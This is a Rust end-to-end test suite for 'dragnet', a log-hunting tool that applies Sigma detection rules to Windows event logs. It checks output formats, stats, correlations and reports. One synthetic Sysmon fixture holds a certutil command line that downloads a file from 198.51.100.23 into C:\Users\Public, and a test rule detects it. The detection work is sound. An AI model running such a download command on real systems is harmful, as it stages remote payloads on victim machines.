//! End-to-end tests: the built `dragnet` binary on small inputs written to temporary
//! directories, the bundled samples, and the shared data set when present.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// A temporary directory removed when dropped.
struct TempDir(PathBuf);

impl TempDir {
    fn new(name: &str) -> TempDir {
        let p = std::env::temp_dir().join(format!(
            "dragnet-cli-{}-{}-{}",
            name,
            std::process::id(),
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map(|d| d.as_nanos())
                .unwrap_or(0)
        ));
        std::fs::create_dir_all(&p).unwrap();
        TempDir(p)
    }
    fn path(&self) -> &Path {
        &self.0
    }
    fn write(&self, name: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
        let p = self.0.join(name);
        if let Some(parent) = p.parent() {
            std::fs::create_dir_all(parent).unwrap();
        }
        std::fs::write(&p, bytes).unwrap();
        p
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn dragnet(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_dragnet"))
        .args(args)
        .env_remove("COLUMNS")
        .output()
        .expect("run dragnet")
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn workspace() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// A Sysmon process creation in the flat layout (evtx_dump / NXLog style).
fn process_creation(time: &str, record: u64, image: &str, command_line: &str) -> String {
    serde_json::json!({
        "TimeCreated": time,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "Computer": "WS-17.corp.example",
        "EventRecordID": record,
        "UtcTime": time,
        "Image": image,
        "CommandLine": command_line,
        "ParentImage": r"C:\Windows\System32\cmd.exe",
        "OriginalFileName": image.rsplit('\\').next().unwrap(),
        "User": r"CORP\jdoe",
    })
    .to_string()
        + "\n"
}

/// A directory with one good JSONL file of three process creations.
fn good_input(dir: &TempDir) -> PathBuf {
    let mut text = String::new();
    text += &process_creation(
        "2024-05-14 09:12:03.412",
        1,
        r"C:\Windows\System32\whoami.exe",
        "whoami",
    );
    text += &process_creation(
        "2024-05-14 09:14:21.802",
        2,
        r"C:\Windows\System32\certutil.exe",
        r"certutil.exe -urlcache -split -f http://198.51.100.23/a.bin C:\Users\Public\a.exe",
    );
    text += &process_creation(
        "2024-05-14 09:20:55.118",
        3,
        r"C:\Windows\System32\notepad.exe",
        "notepad.exe",
    );
    dir.write("logs/ws17.jsonl", text)
}

fn garbage(dir: &TempDir) -> Vec<PathBuf> {
    let noise: Vec<u8> = (0..4096u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    vec![
        dir.write("logs/blob.bin", &noise),
        dir.write("logs/notes.txt", "these are not event logs\njust notes\n"),
    ]
}

const CERTUTIL_RULE: &str = r#"title: Certutil Download (test rule)
id: 3b6a1c2e-7d0f-4a59-9c2e-52d1f0a7e001
status: test
description: certutil.exe started (dragnet CLI test)
author: dragnet tests
date: 2024-05-14
tags:
    - attack.command-and-control
    - attack.t1105
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\certutil.exe'
    condition: selection
level: high
"#;

const CONTRACT_KEYS: [&str; 5] = ["time", "level", "host", "attack", "details"];

fn assert_contract(line: &str) -> serde_json::Value {
    let v: serde_json::Value = serde_json::from_str(line).expect("a JSON finding a line");
    for key in CONTRACT_KEYS {
        assert!(v.get(key).is_some(), "no {key} in {line}");
    }
    for key in ["id", "title", "author", "tags"] {
        assert!(v["rule"].get(key).is_some(), "no rule.{key} in {line}");
    }
    for key in ["path", "record", "format"] {
        assert!(v["source"].get(key).is_some(), "no source.{key} in {line}");
    }
    v
}

#[test]
fn hunt_writes_jsonl_findings_with_the_contract_keys() {
    let dir = TempDir::new("hunt-rules");
    let input = good_input(&dir);
    dir.write("rules/certutil.yml", CERTUTIL_RULE);
    let rules = dir.path().join("rules");
    let o = dragnet(&[
        "hunt",
        input.to_str().unwrap(),
        "--rules",
        rules.to_str().unwrap(),
        "--format",
        "jsonl",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    let lines: Vec<&str> = out.lines().collect();
    assert!(!lines.is_empty(), "no findings; stderr: {}", stderr(&o));
    for line in &lines {
        let v = assert_contract(line);
        assert_eq!(v["rule"]["id"], "3b6a1c2e-7d0f-4a59-9c2e-52d1f0a7e001");
        assert_eq!(v["rule"]["author"], "dragnet tests");
        assert_eq!(v["level"], "high");
        assert_eq!(v["attack"][0], "T1105");
        assert_eq!(v["source"]["format"], "jsonl");
        assert_eq!(v["source"]["record"], 2);
    }
    assert!(stderr(&o).contains("findings: 1"), "{}", stderr(&o));
}

#[test]
fn hunt_runs_writes_each_format_and_summarises() {
    let dir = TempDir::new("hunt");
    let input = good_input(&dir);
    dir.write("rules/certutil.yml", CERTUTIL_RULE);
    let rules = dir.path().join("rules");

    let o = dragnet(&[
        "hunt",
        input.to_str().unwrap(),
        "--rules",
        rules.to_str().unwrap(),
        "--format",
        "jsonl",
        "--threads",
        "2",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    for line in stdout(&o).lines() {
        assert_contract(line);
    }
    let err = stderr(&o);
    assert!(err.contains("read 1 file,"), "{err}");
    assert!(err.contains("3 records"), "{err}");
    assert!(err.contains("findings:"), "{err}");
    assert!(err.contains("records/s"), "{err}");
    assert!(!err.contains('\r'), "progress drawn on a pipe: {err:?}");

    // CSV to a file, with the header.
    let csv_path = dir.path().join("out/timeline.csv");
    std::fs::create_dir_all(csv_path.parent().unwrap()).unwrap();
    let o = dragnet(&[
        "hunt",
        input.to_str().unwrap(),
        "--rules",
        rules.to_str().unwrap(),
        "--format",
        "csv",
        "--output",
        csv_path.to_str().unwrap(),
        "--quiet",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(stdout(&o).is_empty());
    assert!(stderr(&o).is_empty(), "--quiet printed: {}", stderr(&o));
    let csv = std::fs::read_to_string(&csv_path).unwrap();
    assert!(csv.starts_with("time,level,host,rule_id,rule_title,rule_author,attack,tags,source_path,source_record,source_format,details,datetime,timestamp_desc,message"), "{csv}");

    // The table, with no colour on a pipe.
    let o = dragnet(&["hunt", input.to_str().unwrap(), "--min-level", "high"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(!stdout(&o).contains('\x1b'));

    // A bad level is a usage error.
    let o = dragnet(&["hunt", input.to_str().unwrap(), "--min-level", "urgent"]);
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn stats_json_has_the_totals() {
    let dir = TempDir::new("stats");
    let input = good_input(&dir);
    let o = dragnet(&["stats", input.to_str().unwrap(), "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).expect("one JSON object");
    assert_eq!(v["files"], 1);
    assert_eq!(v["records"], 3);
    assert_eq!(v["errors"], 0);
    assert!(v["bytes"].as_u64().unwrap() > 0);
    assert_eq!(v["by_format"]["jsonl"]["records"], 3);
    assert_eq!(v["by_channel"]["Microsoft-Windows-Sysmon/Operational"], 3);
    assert_eq!(v["by_event_id"][0]["event_id"], 1);
    assert_eq!(v["by_file"][0]["records"], 3);

    let o = dragnet(&["stats", dir.path().to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(stdout(&o).contains("records 3"), "{}", stdout(&o));
}

#[test]
fn a_missing_path_is_a_usage_error() {
    let dir = TempDir::new("missing");
    let missing = dir.path().join("no-such-file.evtx");
    for cmd in ["hunt", "stats"] {
        let o = dragnet(&[cmd, missing.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(2), "{cmd}: {}", stderr(&o));
        assert!(stderr(&o).contains("no-such-file.evtx"), "{}", stderr(&o));
    }
    let o = dragnet(&["hunt"]);
    assert_eq!(o.status.code(), Some(2));
}

/// `--rules A B` takes B as evidence: a directory of YAML and no evidence gets a warning that
/// says how to pass several rules paths (and a correct command line gets none).
#[test]
fn a_rules_directory_given_as_evidence_is_pointed_out() {
    let dir = TempDir::new("rules-as-evidence");
    let evidence = good_input(&dir);
    let rules = dir.path().join("more-rules");
    std::fs::create_dir_all(&rules).unwrap();
    let rule = "title: t\nlogsource:\n  product: windows\ndetection:\n  sel:\n    EventID: 1\n  condition: sel\n";
    std::fs::write(rules.join("r.yml"), rule).unwrap();
    let (ev, rd) = (evidence.to_str().unwrap(), rules.to_str().unwrap());
    let o = dragnet(&["hunt", ev, "--rules", rd, rd, "-q", "-o", "/dev/null"]);
    let err = stderr(&o);
    assert!(
        err.contains("warning: ") && err.contains("its own --rules"),
        "{err}"
    );
    let o = dragnet(&["hunt", ev, "--rules", rd, "-q", "-o", "/dev/null"]);
    assert!(!stderr(&o).contains("its own --rules"), "{}", stderr(&o));
}

#[test]
fn only_garbage_means_nothing_could_be_read() {
    let dir = TempDir::new("garbage");
    garbage(&dir);
    for cmd in ["hunt", "stats"] {
        let o = dragnet(&[cmd, dir.path().to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(1), "{cmd}: {}", stderr(&o));
        let err = stderr(&o);
        assert!(
            err.contains("no readable input") || err.contains("nothing could be read"),
            "{err}"
        );
    }
}

#[test]
fn garbage_beside_a_good_file_is_skipped_and_reported() {
    let dir = TempDir::new("mixed");
    good_input(&dir);
    let junk = garbage(&dir);
    let o = dragnet(&["hunt", dir.path().to_str().unwrap(), "--format", "jsonl"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let err = stderr(&o);
    for j in &junk {
        let reported = err.lines().any(|l| {
            (l.starts_with("skipped: ") && l.contains(j.to_str().unwrap()))
                || (l.starts_with("read error: ") && l.contains(j.to_str().unwrap()))
        });
        assert!(reported, "{} not reported: {err}", j.display());
    }
    assert!(err.contains("3 records"), "{err}");

    let o = dragnet(&["hunt", dir.path().to_str().unwrap(), "--quiet"]);
    assert_eq!(o.status.code(), Some(0));
    assert!(!stderr(&o).contains("skipped: "));
}

#[test]
fn the_bundled_samples_read_cleanly() {
    let samples = workspace().join("samples");
    let o = dragnet(&["stats", samples.to_str().unwrap(), "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(v["files"], 2, "{}", stdout(&o));
    assert_eq!(v["records"], 33 + 16);
    assert_eq!(v["errors"], 0);

    let o = dragnet(&["hunt", samples.to_str().unwrap(), "--format", "jsonl"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    for line in stdout(&o).lines() {
        assert_contract(line);
    }
}

/// `DRAGNET_SHARED`, or `<workspace>/../shared`.
fn shared() -> Option<PathBuf> {
    let p = std::env::var_os("DRAGNET_SHARED")
        .map(PathBuf::from)
        .unwrap_or_else(|| workspace().join("../shared"));
    p.join("data").is_dir().then_some(p)
}

#[test]
fn stats_counts_the_evtx_attack_samples() {
    let Some(shared) = shared() else {
        eprintln!(
            "SKIPPED stats_counts_the_evtx_attack_samples: no shared data (set DRAGNET_SHARED or put it at <workspace>/../shared)"
        );
        return;
    };
    let dir = shared.join("data/evtx/attack-samples");
    let o = dragnet(&["stats", dir.to_str().unwrap(), "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    // The set is 277 EVTX files of 8,255 records; the editor settings folder and the notebook
    // beside them are skipped by the walker.
    let evtx = &v["by_format"]["evtx"];
    assert_eq!(evtx["files"], 277, "stderr: {}", stderr(&o));
    assert_eq!(evtx["records"], 8255, "stderr: {}", stderr(&o));
    assert_eq!(evtx["errors"], 0, "stderr: {}", stderr(&o));
    // Beside them, one IIS W3C log (`Command and Control/Tunna_rdp_tunnel_IIS.log`).
    let iis = &v["by_format"]["iis-w3c"];
    assert_eq!(iis["files"], 1, "stderr: {}", stderr(&o));
    assert_eq!(iis["records"], 4298, "stderr: {}", stderr(&o));
    assert_eq!(v["files"], 278);
    assert_eq!(v["records"], 8255 + 4298);
    assert_eq!(v["errors"], 0);
}

#[test]
fn sigmahq_regression_passes_from_evtx_and_from_json_twins() {
    let Some(shared) = shared() else {
        eprintln!("SKIPPED sigmahq_regression: no shared data (set DRAGNET_SHARED)");
        return;
    };
    let repo = shared.join("data/sigma/sigmahq");
    for extra in [&[][..], &["--json"][..]] {
        let mut args = vec!["rules", "regression", repo.to_str().unwrap()];
        args.extend_from_slice(extra);
        let o = dragnet(&args);
        let out = stdout(&o);
        assert_eq!(
            out.lines().last(),
            Some("regression: 202 passed, 0 failed"),
            "{out}"
        );
        assert_eq!(o.status.code(), Some(0));
    }
}

#[test]
fn rules_validate_lists_failures_with_file_line_and_reason() {
    let tmp = TempDir::new("validate");
    let dir = tmp.path();
    std::fs::write(
        dir.join("good.yml"),
        "title: ok\nid: 1\nauthor: t\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  sel:\n    Image|endswith: x.exe\n  condition: sel\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("bad.yml"),
        "title: bad\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  sel:\n    Image|endswith: x.exe\n  condition: sel and nothere\n",
    )
    .unwrap();
    let o = dragnet(&["rules", "validate", dir.to_str().unwrap()]);
    let out = stdout(&o);
    assert_eq!(o.status.code(), Some(1), "{out}");
    assert!(
        out.contains("bad.yml:8:") && out.contains("nothere"),
        "{out}"
    );
    assert_eq!(out.lines().last(), Some("rules: 1 loaded, 1 failed"));
    // The built-in pack validates clean.
    let o = dragnet(&["rules", "validate"]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    assert!(stdout(&o).lines().last().unwrap().ends_with(", 0 failed"));
}

/// The built-in correlations fire on real attack telemetry: Kerberos password spraying
/// (EVTX-ATTACK-SAMPLES) and a 4625 burst against one account (a real Security log).
#[test]
fn builtin_correlations_fire_on_real_spraying_and_brute_force() {
    let Some(shared) = shared() else {
        eprintln!("SKIPPED builtin_correlations: no shared data (set DRAGNET_SHARED)");
        return;
    };
    let spray =
        shared.join("data/evtx/attack-samples/Credential Access/kerberos_pwd_spray_4771.evtx");
    let brute = shared.join("data/evtx/benign-and-corrupt/Security_with_size_t.evtx");
    let o = dragnet(&[
        "hunt",
        spray.to_str().unwrap(),
        brute.to_str().unwrap(),
        "--format",
        "jsonl",
        "-q",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let findings: Vec<serde_json::Value> = stdout(&o)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let corr = |title_start: &str| {
        findings
            .iter()
            .filter(|f| {
                f["rule"]["title"]
                    .as_str()
                    .unwrap()
                    .starts_with(title_start)
            })
            .cloned()
            .collect::<Vec<_>>()
    };
    let k = corr("Kerberos Password Spraying");
    assert_eq!(k.len(), 1, "{findings:#?}");
    assert!(k[0]["details"]["distinct_values"].as_u64().unwrap() >= 6);
    assert!(k[0]["source"]["path"]
        .as_str()
        .unwrap()
        .ends_with("kerberos_pwd_spray_4771.evtx"));
    assert!(
        k[0]["events"].as_array().unwrap().len() >= 6,
        "lists the events"
    );
    assert_eq!(k[0]["attack"][0], "T1110.003");
    let b = corr("Brute Force - Repeated Failed Logons");
    assert_eq!(b.len(), 1, "{findings:#?}");
    assert_eq!(b[0]["details"]["TargetUserName"], "Student");
    assert_eq!(b[0]["details"]["IpAddress"], "10.20.0.118");
    assert_eq!(b[0]["details"]["count"], 4);
    // The base rules only feed correlations: they are not reported on their own.
    assert!(corr("Failed Logon With A Remote Source Address").is_empty());
}

/// `dragnet report` re-renders a hunt's reports from its timeline; a findings file out of
/// timeline order (here reversed) gives the same reports as the timeline itself.
#[test]
fn report_from_a_timeline_in_any_order_is_the_same() {
    let dir = TempDir::new("report-order");
    let samples = workspace().join("samples");
    let o = dragnet(&["hunt", samples.to_str().unwrap(), "--format", "jsonl"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let timeline = stdout(&o);
    let lines: Vec<&str> = timeline.lines().collect();
    assert!(lines.len() > 2, "{timeline}");
    let in_order = dir.write("in-order.jsonl", &timeline);
    let reversed: Vec<&str> = lines.iter().rev().copied().collect();
    let reversed = dir.write("reversed.jsonl", reversed.join("\n") + "\n");
    let render = |findings: &Path, name: &str| -> Vec<String> {
        let out = dir.path().join(name);
        std::fs::create_dir_all(&out).unwrap();
        let files = ["r.html", "s.json", "n.json", "i.csv"].map(|f| out.join(f));
        let o = Command::new(env!("CARGO_BIN_EXE_dragnet"))
            .args(["report", "--findings", findings.to_str().unwrap()])
            .args(["--report", files[0].to_str().unwrap()])
            .args(["--stix", files[1].to_str().unwrap()])
            .args(["--navigator", files[2].to_str().unwrap()])
            .args(["--iocs", files[3].to_str().unwrap()])
            .env("SOURCE_DATE_EPOCH", "1700000000")
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        files
            .iter()
            .map(|f| std::fs::read_to_string(f).unwrap())
            .map(|text| text.replace(findings.to_str().unwrap(), "FINDINGS"))
            .collect()
    };
    let a = render(&in_order, "a");
    let b = render(&reversed, "b");
    assert!(a[1].contains("\"type\": \"bundle\""), "{}", a[1]);
    assert!(
        a[0].contains(&format!(">{}<", lines.len())),
        "finding count"
    );
    for (x, y) in a.iter().zip(&b) {
        assert!(x == y, "reports differ with the findings' order");
    }
}
